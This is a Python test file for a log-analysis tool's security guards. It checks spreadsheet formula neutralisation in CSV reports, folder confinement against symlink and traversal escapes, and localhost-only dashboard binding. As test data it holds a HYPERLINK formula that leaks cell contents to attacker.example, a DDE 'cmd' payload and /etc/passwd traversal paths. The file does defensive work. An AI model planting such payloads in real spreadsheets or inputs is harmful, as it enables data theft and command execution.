"""What the tool refuses to do for whoever reaches it: formulas in exported CSV, serving beyond this machine."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from helpers import rec, write_jsonl

from specdec_core import config
from specdec_core.analysis.report import mismatch_report, report_csv
from specdec_core.cli import main
from specdec_core.dashboard_launch import streamlit_command
from specdec_core.ingestion.load import ingest
from specdec_core.store.connection import Store

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_ID = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'

# --- spreadsheet formulas in the report ----------------------------------------------------------------------


def _hostile_store(tmp_path: Path) -> Store:
    """A length violation whose request_id, model and tokenizer names would be formulas in a spreadsheet."""
    store = Store(tmp_path / "hostile.duckdb")
    ingest(store, [str(write_jsonl(tmp_path / "hostile.jsonl", [
        rec(HOSTILE_ID, max_tokens=2, target_model="+cmd|' /C calc'!A0", tokenizer_version="@SUM(1+1)"),
        rec("\tdash", ts="2026-03-01T10:01:00Z", max_tokens=2, deployment="-2+3", cache_key="\rk"),
    ]))])
    return store


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_report_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
    store = _hostile_store(tmp_path)
    out = tmp_path / "report.csv"
    assert main(["report", "--db", str(store.path), "--out", str(out)]) == 0
    first, second = _rows(out.read_bytes())
    assert first["request_id"] == "'" + HOSTILE_ID
    assert first["target_model"] == "'+cmd|' /C calc'!A0" and first["tokenizer_version"] == "'@SUM(1+1)"
    assert second["request_id"] == "'\tdash" and second["deployment"] == "'-2+3" and second["cache_key"] == "'\rk"
    assert first["max_tokens"] == "2" and first["detail"] == "output_tokens 3 > max_tokens 2"


def test_report_raw_keeps_the_exact_text(tmp_path):
    store = _hostile_store(tmp_path)
    out = tmp_path / "raw.csv"
    assert main(["report", "--db", str(store.path), "--out", str(out), "--raw"]) == 0
    first, second = _rows(out.read_bytes())
    assert first["request_id"] == HOSTILE_ID and second["request_id"] == "\tdash" and second["cache_key"] == "\rk"


def test_negative_numbers_stay_numbers_and_only_text_columns_are_neutralised():
    frame = pd.DataFrame({"request_id": ["-r", "r"], "temperature": [-0.5, 1.0], "latency_ms": [-12, 3],
                          "detail": [None, "=1"]})
    assert report_csv(frame).decode() == "request_id,temperature,latency_ms,detail\n'-r,-0.5,-12,\nr,1.0,3,'=1\n"
    assert report_csv(frame, raw=True).decode() == "request_id,temperature,latency_ms,detail\n-r,-0.5,-12,\nr,1.0,3,=1\n"


def test_the_demo_report_without_hostile_values_is_the_same_bytes_as_raw(tmp_path):
    store = Store(tmp_path / "demo.duckdb")
    ingest(store, [str(ROOT / "data" / "demo" / "requests.jsonl.gz")])
    frame = mismatch_report(store)
    assert len(frame) > 100
    assert report_csv(frame) == report_csv(frame, raw=True)


# --- what the dashboard may open and run -------------------------------------------------------------------


@pytest.fixture
def roots(tmp_path):
    """A root with a log, a folder beside it with another, and links from the root to the outside."""
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    write_jsonl(inside / "in.jsonl", [rec("in")])
    write_jsonl(outside / "secret.jsonl", [rec("secret")])
    (inside / "link-to-outside").symlink_to(outside, target_is_directory=True)
    (inside / "secret-link.jsonl").symlink_to(outside / "secret.jsonl")
    cfg = tmp_path / "specdec.toml"
    cfg.write_text('[dashboard]\nroots = ["inside"]\naudit_functions = ["mypkg.keys:make_key"]\n')
    return config.dashboard_settings(cfg), inside, outside


def test_the_dashboard_settings_come_from_the_config_file(roots, tmp_path):
    settings, inside, _ = roots
    assert settings.roots == (inside.resolve(),)
    assert settings.may_audit("mypkg.keys:make_key") and not settings.may_audit("subprocess:run")


def test_the_defaults_audit_nothing_and_open_the_data_folder_and_the_start_folder(tmp_path):
    cfg = tmp_path / "specdec.toml"
    cfg.write_text('[models.m]\npath = "m"\n')
    settings = config.dashboard_settings(cfg, start=tmp_path)
    assert settings.audit_functions == ()
    assert settings.roots == ((ROOT / "data").resolve(), tmp_path.resolve())
    assert config.dashboard_settings(tmp_path / "missing.toml", start=tmp_path).roots == settings.roots


@pytest.mark.parametrize("bad", ['roots = "/"', "audit_functions = [1]", "open_everything = true"])
def test_a_broken_dashboard_table_is_a_one_line_error_naming_the_file(tmp_path, bad):
    cfg = tmp_path / "specdec.toml"
    cfg.write_text(f"[dashboard]\n{bad}\n")
    with pytest.raises(config.ConfigError, match="specdec.toml"):
        config.dashboard_settings(cfg)


def test_paths_are_confined_after_resolving_dots_and_links(roots):
    settings, inside, outside = roots
    assert settings.confine(str(inside / "new.duckdb")) == inside.resolve() / "new.duckdb"
    for escape in (str(outside / "x.duckdb"), f"{inside}/../outside/x.duckdb", str(inside / "link-to-outside" / "x"),
                   "/", "/root", "/etc/passwd"):
        with pytest.raises(config.PathRefused, match="outside the folders"):
            settings.confine(escape)


def test_log_paths_folders_and_globs_are_confined_file_by_file(roots):
    settings, inside, outside = roots
    assert settings.confine_logs(str(inside / "in.jsonl")) == [str(inside / "in.jsonl")]
    for escape in (str(outside), str(outside / "*.jsonl"), f"{inside}/../outside/secret.jsonl",
                   str(inside / "link-to-outside" / "secret.jsonl"), str(inside / "secret-link.jsonl"),
                   str(inside), str(inside / "*.jsonl"), f"{inside}/*/secret.jsonl", "/root/**/*.jsonl"):
        with pytest.raises(config.PathRefused, match="outside the folders"):
            settings.confine_logs(escape)


# --- serving -------------------------------------------------------------------------------------------------


def test_the_dashboard_binds_to_this_machine_only_by_default():
    config = (ROOT / ".streamlit" / "config.toml").read_text()
    assert re.search(r'^\[server\][^\[]*^address\s*=\s*"127\.0\.0\.1"', config, re.M | re.S), config
    run_target = re.search(r"^run:.*?(?=^\S)", (ROOT / "Makefile").read_text(), re.M | re.S).group(0)
    assert "specdec dashboard" in run_target and "--host 127.0.0.1" in run_target
    assert "0.0.0.0" not in run_target and "0.0.0.0" not in config
    # `specdec dashboard` alone binds to this machine too, wherever it is started (the config file above is
    # read only in the folder Streamlit starts in).
    command = streamlit_command(None)
    assert command[command.index("--server.address") + 1] == "127.0.0.1"


def test_a_ducklake_store_string_is_confined_by_the_files_it_opens(roots):
    settings, inside, outside = roots
    assert settings.confine_store(f"ducklake:{inside}/k.sqlite") == f"ducklake:{inside.resolve()}/k.sqlite"
    assert settings.confine_store(str(inside / "a.duckdb")) == str(inside.resolve() / "a.duckdb")
    for escape in (f"ducklake:{outside}/k.sqlite", "ducklake:/etc/passwd", f"ducklake:sqlite:{outside}/k.sqlite",
                   f"ducklake:{inside}/link-to-outside/k.sqlite", f"ducklake:{inside}/../outside/k.sqlite",
                   "ducklake:postgres:host=127.0.0.1 port=8501", "ducklake:"):
        with pytest.raises(config.PathRefused):
            settings.confine_store(escape)
    operator = "ducklake:postgres:dbname=specdec host=db.internal"
    assert settings.confine_store(operator, allowed=(operator,)) == operator


def test_a_blank_name_or_a_folder_is_no_store_and_a_folder_outside_says_only_that(roots, monkeypatch):
    settings, inside, outside = roots
    monkeypatch.chdir(inside)  # where Path("") resolves: the blank name opened this folder
    for text, said in (("", "a blank name is no file;"), ("  ", "a blank name is no file;"),
                       (str(inside), f"{inside} is a folder;"), (".", f". (that is {inside.resolve()}) is a folder;")):
        with pytest.raises(config.PathRefused, match=re.escape(said)):
            settings.confine_store(text)
    with pytest.raises(config.PathRefused, match="is outside the folders this dashboard may open"):
        settings.confine_store(str(outside))  # refused as outside first: nothing said of what it is


def test_a_relative_or_prefixed_name_is_kept_as_the_absolute_file_it_opens(roots, monkeypatch):
    settings, inside, _ = roots
    monkeypatch.chdir(inside)
    assert settings.confine_store("md:x.duckdb") == str(inside.resolve() / "md:x.duckdb")
